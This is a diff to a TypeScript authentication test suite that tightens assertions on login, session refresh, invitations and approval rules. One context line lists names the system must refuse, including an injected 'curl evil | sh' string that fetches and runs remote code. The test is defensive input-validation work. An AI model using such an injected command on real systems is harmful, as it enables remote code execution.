@@ -34,8 +34,8 @@ describe('an organization that requires a second factor', () => {
     const code = () =>
       new TOTP({ secret: new URL(uri).searchParams.get('secret') ?? '' }).generate({ timestamp: now().getTime() })
     await Totp.confirm(ctx, { code: code() })
-    await expect(Members.list(await as(ada.accessToken), {})).resolves.toBeDefined()
-    await expect(Members.list(await as(key), {})).resolves.toBeDefined()
+    await expect(Members.list(await as(ada.accessToken), {})).resolves.toMatchObject({ users: [{ id: ada.userId }] })
+    await expect(Members.list(await as(key), {})).resolves.toMatchObject({ users: [{ id: ada.userId }] })
     expect(await refusal(Login.login(anyone(), { email: ada.email, password }))).toMatchObject({
       code: 'unauthenticated',
     })
@@ -88,7 +88,10 @@ describe('a session that a password opened', () => {
     expect(await refusal(Session.refresh(anyone(), { refreshToken: bob.refreshToken }))).toMatchObject({
       code: 'unauthenticated',
     })
-    await expect(Session.refresh(anyone(), { refreshToken: ada.refreshToken })).resolves.toBeDefined()
+    await expect(Session.refresh(anyone(), { refreshToken: ada.refreshToken })).resolves.toMatchObject({
+      tokenType: 'Bearer',
+      refreshToken: expect.stringMatching(/^cor_/),
+    })
     const details = (await AuditLog.list(ada.ctx, { action: 'auth.refresh' })).entries.flatMap(
       ({ detail }) => detail ?? [],
     )
@@ -103,7 +106,10 @@ describe('a session that a password opened', () => {
     const user = await User.load(ada.ctx, bob.userId)
     for (const method of ['openid', 'command-line'] as const) {
       const { refreshToken } = await Session.open(ada.ctx, user, method)
-      await expect(Session.refresh(anyone(), { refreshToken })).resolves.toBeDefined()
+      await expect(Session.refresh(anyone(), { refreshToken })).resolves.toMatchObject({
+        tokenType: 'Bearer',
+        refreshToken: expect.stringMatching(/^cor_/),
+      })
     }
   })
 })
@@ -161,7 +167,10 @@ describe('a user with an unverified address', () => {
       orgId: first.organizationId,
       actor: { id: first.userId, role: 'admin' },
     })
-    await expect(Login.login(anyone(), { email, password })).resolves.toBeDefined()
+    await expect(Login.login(anyone(), { email, password })).resolves.toMatchObject({
+      tokenType: 'Bearer',
+      refreshToken: expect.stringMatching(/^cor_/),
+    })
   })
 })
 
@@ -175,7 +184,10 @@ describe('no caller grants more than it has', () => {
       permissions: ['write:users', ...new Set(bob.ctx.actor.permissions)],
     })
     const ctx = await as(key)
-    await expect(Invitations.create(ctx, { email: 'x@example.com', role: 'viewer' })).resolves.toBeDefined()
+    await expect(Invitations.create(ctx, { email: 'x@example.com', role: 'viewer' })).resolves.toMatchObject({
+      role: 'viewer',
+      status: 'open',
+    })
     expect(await refusal(Invitations.create(ctx, { email: 'y@example.com', role: 'admin' }))).toMatchObject({
       code: 'forbidden',
     })
@@ -275,7 +287,10 @@ test("an admin revokes another user's sessions; that user may sign in again", as
   const bob = await join(ada, 'viewer')
   expect(await Members.endSessions(ada.ctx, { id: bob.userId })).toEqual({ ended: 1 })
   expect(await refusal(as(bob.accessToken))).toMatchObject({ code: 'unauthenticated' })
-  await expect(Login.login(anyone(), { email: bob.email, password })).resolves.toBeDefined()
+  await expect(Login.login(anyone(), { email: bob.email, password })).resolves.toMatchObject({
+    tokenType: 'Bearer',
+    refreshToken: expect.stringMatching(/^cor_/),
+  })
 })
 
 test.each(['X\ncurl evil | sh', 'a\u0007b', 'a\u2028b', ' '])('%j is refused as a name', async (name) => {
@@ -295,5 +310,5 @@ test('self-approval requires an organization with one user', async () => {
   const bob = await join(ada, 'devops')
   expect(await refusal(Organization.update(ada.ctx, { approvalRules }))).toMatchObject({ code: 'invalid' })
   await Members.deactivate(ada.ctx, { id: bob.userId })
-  await expect(Organization.update(ada.ctx, { approvalRules })).resolves.toBeDefined()
+  await expect(Organization.update(ada.ctx, { approvalRules })).resolves.toMatchObject({ approvalRules })
 })
